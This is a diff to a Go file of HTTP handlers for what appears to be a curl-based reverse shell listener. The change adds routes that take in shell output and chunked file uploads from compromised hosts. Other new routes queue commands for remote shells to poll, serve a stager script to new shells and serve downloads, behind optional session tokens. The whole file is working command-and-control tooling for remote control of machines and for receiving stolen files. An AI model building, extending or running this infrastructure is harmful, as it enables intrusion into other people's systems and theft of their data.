@@ -5,32 +5,62 @@ package main
  * HTTP handlers
  * By J. Stuart McMurray
  * Created 20260117
- * Last Modified 20260205
+ * Last Modified 20261018
  */
 
 import (
+	"bytes"
+	"errors"
+	"fmt"
 	"log"
 	"net/http"
+	"strconv"
+	"strings"
 
 	"github.com/magisterquis/openbsd_installer_to_curlrevshell/src/mod/lineextractor"
 )
 
-// idParam is used to extract an ID from a URL path.
-const idParam = "ID"
+// Parameters extracted from URL paths.
+const (
+	idParam    = "ID"
+	tokenParam = "TOKEN"
+	nameParam  = "NAME"
+)
 
 // LineHandler handles lines.  See ConnManager for more details.
 type LineHandler interface {
-	CloseConn(urlPath string) error
-	KeepAlive(urlPath string) error
-	Send(urlPath, line string) (bool, error)
+	CloseConn(urlPath, remoteAddr string) error
+	KeepAlive(urlPath, remoteAddr string) error
+	Resend(urlPath, remoteAddr, line string) error
+	Send(urlPath, remoteAddr, line string) (bool, error)
+	Status(urlPath string) (Status, error)
 }
 
-// NewMux returns a new [http.ServeMux] connected to cMgr.
-func NewMux(cMgr LineHandler) *http.ServeMux {
+// NewMux returns a new [http.ServeMux] connected to cMgr.  If files isn't
+// nil, files may be sent to it.  If input isn't nil, shells may poll it for
+// commands.  If stager isn't nil, it's served from its path, as are dl's files
+// if dl isn't nil.  If metrics isn't nil, requests are counted per route.  If
+// secret isn't empty, requests must have a token from SessionToken after the
+// ID in the URL path.
+func NewMux(
+	cMgr LineHandler,
+	files *FileReceiver,
+	input *InputQueue,
+	stager *Stager,
+	dl *Downloads,
+	metrics *Metrics,
+	secret []byte,
+) *http.ServeMux {
 	return newMux(handler{
-		logf:   log.Printf,
-		debugf: Debugf,
-		cMgr:   cMgr,
+		logf:    log.Printf,
+		debugf:  Debugf,
+		cMgr:    cMgr,
+		files:   files,
+		input:   input,
+		stager:  stager,
+		dl:      dl,
+		metrics: metrics,
+		secret:  secret,
 	})
 }
 
@@ -38,18 +68,102 @@ func NewMux(cMgr LineHandler) *http.ServeMux {
 func newMux(h handler) *http.ServeMux {
 	mux := http.NewServeMux()
 
-	mux.HandleFunc("GET /close/{"+idParam+"}", h.handleClose)
-	mux.HandleFunc("GET /keepalive/{"+idParam+"}", h.handleKeepAlive)
-	mux.HandleFunc("GET /line/{"+idParam+"}", h.handleLine)
+	/* Every route may have a token after the ID. */
+	handle := func(name string, f http.HandlerFunc) {
+		p := "GET /" + name + "/{" + idParam + "}"
+		f = h.count(name, h.authenticate(f))
+		mux.HandleFunc(p, f)
+		mux.HandleFunc(p+"/{"+tokenParam+"}", f)
+	}
+	handle("close", h.handleClose)
+	handle("keepalive", h.handleKeepAlive)
+	handle("line", h.handleLine)
+	handle("lines", h.handleLines)
+	handle("chunk", h.handleChunk)
+	handle("resend", h.handleResend)
+	handle("status", h.handleStatus)
+	if nil != h.input {
+		handle("input", h.handleInput)
+	}
+
+	/* The stager has no ID, and its own token. */
+	if nil != h.stager {
+		mux.HandleFunc(
+			"GET "+h.stager.Path(),
+			h.count("stager", h.handleStager),
+		)
+	}
+
+	/* As do downloads. */
+	if nil != h.dl {
+		mux.HandleFunc(
+			"GET "+h.dl.Path()+"/",
+			h.count("dl", h.handleDownload),
+		)
+	}
+
+	/* Files have a name after the ID and token. */
+	if nil != h.files {
+		var (
+			p = "GET /file/{" + idParam + "}"
+			n = "/{" + nameParam + "}"
+			f = h.count("file", h.authenticate(h.handleFile))
+		)
+		mux.HandleFunc(p+n, f)
+		mux.HandleFunc(p+"/{"+tokenParam+"}"+n, f)
+	}
 
 	return mux
 }
 
 // handler passes data to our HTTP handlers.
 type handler struct {
-	logf   func(string, ...any) /* Test-settable. */
-	debugf func(string, ...any) /* Test-settable. */
-	cMgr   LineHandler          /* Really a ConnectionManager. */
+	logf    func(string, ...any) /* Test-settable. */
+	debugf  func(string, ...any) /* Test-settable. */
+	cMgr    LineHandler          /* Really a ConnectionManager. */
+	files   *FileReceiver        /* Nil to not receive files. */
+	input   *InputQueue          /* Nil to not serve input. */
+	stager  *Stager              /* Nil to not serve the stager. */
+	dl      *Downloads           /* Nil to not serve downloads. */
+	metrics *Metrics             /* Nil to not count requests. */
+	secret  []byte               /* Empty to not need tokens. */
+}
+
+// count wraps f to count requests to the named route, if we're counting.
+func (h handler) count(route string, f http.HandlerFunc) http.HandlerFunc {
+	if nil == h.metrics {
+		return f
+	}
+	return func(w http.ResponseWriter, r *http.Request) {
+		h.metrics.Request(route)
+		f(w, r)
+	}
+}
+
+// authenticate wraps f to reject requests without a valid token, if we have
+// a secret.
+func (h handler) authenticate(f http.HandlerFunc) http.HandlerFunc {
+	if 0 == len(h.secret) {
+		return f
+	}
+	return func(w http.ResponseWriter, r *http.Request) {
+		var (
+			ra  = r.RemoteAddr
+			id  = r.PathValue(idParam)
+			tok = r.PathValue(tokenParam)
+		)
+		if !ValidSessionToken(h.secret, id, tok) {
+			h.logf(
+				"[%s] Rejected unauthenticated request for %s",
+				ra,
+				id,
+			)
+			ec := http.StatusForbidden
+			http.Error(w, http.StatusText(ec), ec)
+			return
+		}
+		f(w, r)
+	}
 }
 
 // handleLine handles an inbound output line.
@@ -66,9 +180,18 @@ func (h handler) handleLine(w http.ResponseWriter, r *http.Request) {
 		http.Error(w, http.StatusText(ec), ec)
 		return
 	}
-	/* Send it to the connection manager. */
-	opened, err := h.cMgr.Send(id, line)
-	if nil != err {
+	/* Send it to the connection manager.  Duplicates are likely retries,
+	so we tell the client all's well. */
+	opened, err := h.cMgr.Send(id, ra, line)
+	if errors.Is(err, ErrDuplicateLine) {
+		h.debugf("[%s] Ignored duplicate %q for %s", ra, line, id)
+		return
+	} else if errors.Is(err, ErrQueueFull) {
+		h.debugf("[%s] Rejected %q for %s: %s", ra, line, id, err)
+		ec := http.StatusServiceUnavailable
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	} else if nil != err {
 		h.logf("[%s] Error sending %q to %s: %s", ra, line, id, err)
 		ec := http.StatusInternalServerError
 		http.Error(w, http.StatusText(ec), ec)
@@ -80,13 +203,84 @@ func (h handler) handleLine(w http.ResponseWriter, r *http.Request) {
 	h.debugf("[%s] Sent %q to %s", ra, line, id)
 }
 
+// handleLines handles a batch of inbound output lines.
+func (h handler) handleLines(w http.ResponseWriter, r *http.Request) {
+	h.sendBatch(w, r, lineextractor.ExtractLines)
+}
+
+// handleChunk handles a compressed chunk of inbound output lines.
+func (h handler) handleChunk(w http.ResponseWriter, r *http.Request) {
+	h.sendBatch(w, r, lineextractor.ExtractChunk)
+}
+
+// sendBatch sends the lines extracted from r with extract.  Lines are sent in
+// order until one fails.  As duplicates are ignored, the whole batch may be
+// sent again after a failure.
+func (h handler) sendBatch(
+	w http.ResponseWriter,
+	r *http.Request,
+	extract func(*http.Request) ([]string, error),
+) {
+	var (
+		ra = r.RemoteAddr
+		id = r.PathValue(idParam)
+	)
+	/* Extract the lines. */
+	lines, err := extract(r)
+	if nil != err {
+		h.logf("[%s] Error extracting lines for %s: %s", ra, id, err)
+		ec := http.StatusBadRequest
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	/* Send them to the connection manager, as in handleLine. */
+	for _, line := range lines {
+		opened, err := h.cMgr.Send(id, ra, line)
+		if errors.Is(err, ErrDuplicateLine) {
+			h.debugf(
+				"[%s] Ignored duplicate %q for %s",
+				ra,
+				line,
+				id,
+			)
+			continue
+		} else if errors.Is(err, ErrQueueFull) {
+			h.debugf(
+				"[%s] Rejected %q for %s: %s",
+				ra,
+				line,
+				id,
+				err,
+			)
+			ec := http.StatusServiceUnavailable
+			http.Error(w, http.StatusText(ec), ec)
+			return
+		} else if nil != err {
+			h.logf(
+				"[%s] Error sending %q to %s: %s",
+				ra,
+				line,
+				id,
+				err,
+			)
+			ec := http.StatusInternalServerError
+			http.Error(w, http.StatusText(ec), ec)
+			return
+		}
+		if opened {
+			h.logf("[%s] Opened new connection for %s", ra, id)
+		}
+		h.debugf("[%s] Sent %q to %s", ra, line, id)
+	}
+}
+
 // handleClose handles a request to close a connection.
 func (h handler) handleClose(w http.ResponseWriter, r *http.Request) {
 	var (
 		ra = r.RemoteAddr
 		id = r.PathValue(idParam)
 	)
-	if err := h.cMgr.CloseConn(id); nil != err {
+	if err := h.cMgr.CloseConn(id, ra); nil != err {
 		h.logf("[%s] Error closing connection for %s: %s", ra, id, err)
 		ec := http.StatusInternalServerError
 		http.Error(w, http.StatusText(ec), ec)
@@ -101,7 +295,7 @@ func (h handler) handleKeepAlive(w http.ResponseWriter, r *http.Request) {
 		ra = r.RemoteAddr
 		id = r.PathValue(idParam)
 	)
-	if err := h.cMgr.KeepAlive(id); nil != err {
+	if err := h.cMgr.KeepAlive(id, ra); nil != err {
 		h.logf("[%s] Error keeping %s alive: %s", ra, id, err)
 		ec := http.StatusInternalServerError
 		http.Error(w, http.StatusText(ec), ec)
@@ -109,3 +303,267 @@ func (h handler) handleKeepAlive(w http.ResponseWriter, r *http.Request) {
 	}
 	h.debugf("[%s] KeepAlive: %s", r.RemoteAddr, id)
 }
+
+// handleResend handles a line sent again after it was reported missing.
+func (h handler) handleResend(w http.ResponseWriter, r *http.Request) {
+	var (
+		ra = r.RemoteAddr
+		id = r.PathValue(idParam)
+	)
+	/* Extract the line. */
+	line, err := lineextractor.ExtractLine(r)
+	if nil != err {
+		h.logf("[%s] Error extracting line for %s: %s", ra, id, err)
+		ec := http.StatusBadRequest
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	/* Send it to the connection manager. */
+	err = h.cMgr.Resend(id, ra, line)
+	if errors.Is(err, ErrDuplicateLine) {
+		h.debugf("[%s] Ignored duplicate %q for %s", ra, line, id)
+		return
+	} else if errors.Is(err, ErrQueueFull) {
+		h.debugf("[%s] Rejected %q for %s: %s", ra, line, id, err)
+		ec := http.StatusServiceUnavailable
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	} else if nil != err {
+		h.logf("[%s] Error resending %q to %s: %s", ra, line, id, err)
+		ec := http.StatusInternalServerError
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	h.logf("[%s] Resent %q to %s", ra, line, id)
+}
+
+// handleStatus tells the client which lines have and haven't been sent, one
+// per line, as
+//
+//	contiguous N
+//	highest N
+//	missing START END
+//	...
+func (h handler) handleStatus(w http.ResponseWriter, r *http.Request) {
+	var (
+		ra = r.RemoteAddr
+		id = r.PathValue(idParam)
+	)
+	st, err := h.cMgr.Status(id)
+	if errors.Is(err, ErrNotOpen) {
+		h.logf("[%s] Status requested for unknown ID %s", ra, id)
+		ec := http.StatusNotFound
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	} else if nil != err {
+		h.logf("[%s] Error getting status for %s: %s", ra, id, err)
+		ec := http.StatusInternalServerError
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	fmt.Fprintf(w, "contiguous %d\n", st.Contiguous)
+	fmt.Fprintf(w, "highest %d\n", st.Highest)
+	for _, m := range st.Missing {
+		fmt.Fprintf(w, "missing %d %d\n", m.Start, m.End)
+	}
+	h.debugf(
+		"[%s] Status for %s: contiguous:%d highest:%d missing:%d",
+		ra,
+		id,
+		st.Contiguous,
+		st.Highest,
+		len(st.Missing),
+	)
+}
+
+// handleFile handles a chunk of a file or the end of a file.  Ending a file
+// gets either a list of missing chunks, one range per line, as
+//
+//	missing START END
+//	...
+//
+// or ok followed by the file's checksum.  A bad checksum gets a 409.
+func (h handler) handleFile(w http.ResponseWriter, r *http.Request) {
+	var (
+		ra   = r.RemoteAddr
+		id   = r.PathValue(idParam)
+		name = r.PathValue(nameParam)
+	)
+	fq, err := ParseFileQuery(r.URL.RawQuery)
+	if nil != err {
+		h.logf(
+			"[%s] Error parsing request for file %s from %s: %s",
+			ra,
+			name,
+			id,
+			err,
+		)
+		ec := http.StatusBadRequest
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+
+	/* Chunks just need to be saved. */
+	if !fq.End {
+		err := h.files.AddChunk(id, name, fq.N, fq.Data)
+		if nil != err {
+			h.logf(
+				"[%s] Error receiving chunk %d of %s "+
+					"from %s: %s",
+				ra,
+				fq.N,
+				name,
+				id,
+				err,
+			)
+			ec := http.StatusBadRequest
+			switch {
+			case errors.Is(err, ErrFileTooBig):
+				ec = http.StatusRequestEntityTooLarge
+			case errors.Is(err, ErrTooManyFiles):
+				ec = http.StatusServiceUnavailable
+			}
+			http.Error(w, http.StatusText(ec), ec)
+			return
+		}
+		h.debugf(
+			"[%s] Received chunk %d of %s from %s (%d bytes)",
+			ra,
+			fq.N,
+			name,
+			id,
+			len(fq.Data),
+		)
+		return
+	}
+
+	/* At the end, we either have the whole file or tell the client what
+	to send again. */
+	missing, path, err := h.files.Finish(id, name, fq.N, fq.Sum)
+	if nil != err {
+		h.logf(
+			"[%s] Error finishing %s from %s: %s",
+			ra,
+			name,
+			id,
+			err,
+		)
+		ec := http.StatusInternalServerError
+		switch {
+		case errors.Is(err, ErrChecksumMismatch):
+			ec = http.StatusConflict
+		case errors.Is(err, ErrInvalidFileName),
+			errors.Is(err, ErrChunkCount):
+			ec = http.StatusBadRequest
+		}
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	if 0 != len(missing) {
+		for _, m := range missing {
+			fmt.Fprintf(w, "missing %d %d\n", m.Start, m.End)
+		}
+		h.logf(
+			"[%s] File %s from %s is missing %d chunk ranges",
+			ra,
+			name,
+			id,
+			len(missing),
+		)
+		return
+	}
+	fmt.Fprintf(w, "ok %s\n", fq.Sum)
+	h.logf("[%s] Received %s from %s, saved as %s", ra, name, id, path)
+}
+
+// handleInput sends a shell the commands queued for it after the number in
+// the query string, if any, one per line, as
+//
+//	N command
+//	...
+//
+// If there are no commands, the request waits a while for some.
+func (h handler) handleInput(w http.ResponseWriter, r *http.Request) {
+	var (
+		ra    = r.RemoteAddr
+		id    = r.PathValue(idParam)
+		after int
+	)
+	if q := r.URL.RawQuery; "" != q {
+		var err error
+		if after, err = strconv.Atoi(q); nil != err || 0 > after {
+			h.logf(
+				"[%s] Invalid input request for %s: %q",
+				ra,
+				id,
+				q,
+			)
+			ec := http.StatusBadRequest
+			http.Error(w, http.StatusText(ec), ec)
+			return
+		}
+	}
+	cmds, err := h.input.Get(r.Context(), id, after)
+	if errors.Is(err, ErrInputClosed) {
+		ec := http.StatusServiceUnavailable
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	} else if nil != err {
+		return /* Client went away. */
+	}
+	for _, c := range cmds {
+		fmt.Fprintf(w, "%d %s\n", c.Seq, c.Command)
+		h.debugf(
+			"[%s] Sent command %d %q to %s",
+			ra,
+			c.Seq,
+			c.Command,
+			id,
+		)
+	}
+}
+
+// handleStager sends a new shell its script.
+func (h handler) handleStager(w http.ResponseWriter, r *http.Request) {
+	var buf bytes.Buffer
+	id, err := h.stager.Render(&buf)
+	if nil != err {
+		h.logf("[%s] Error rendering stager: %s", r.RemoteAddr, err)
+		ec := http.StatusInternalServerError
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	if _, err := buf.WriteTo(w); nil != err {
+		h.logf(
+			"[%s] Error sending stager for %s: %s",
+			r.RemoteAddr,
+			id,
+			err,
+		)
+		return
+	}
+	h.logf("[%s] Sent stager for new ID %s", r.RemoteAddr, id)
+}
+
+// handleDownload sends a file from the downloads directory, or the list of
+// checksums.
+func (h handler) handleDownload(w http.ResponseWriter, r *http.Request) {
+	var (
+		ra   = r.RemoteAddr
+		name = strings.TrimPrefix(r.URL.Path, h.dl.Path()+"/")
+	)
+	if DownloadsSumsName != name {
+		h.logf("[%s] Download requested: %s", ra, name)
+		h.dl.ServeHTTP(w, r)
+		return
+	}
+	var buf bytes.Buffer
+	if err := h.dl.WriteSums(&buf); nil != err {
+		h.logf("[%s] Error listing checksums: %s", ra, err)
+		ec := http.StatusInternalServerError
+		http.Error(w, http.StatusText(ec), ec)
+		return
+	}
+	buf.WriteTo(w)
+	h.logf("[%s] Sent download checksums", ra)
+}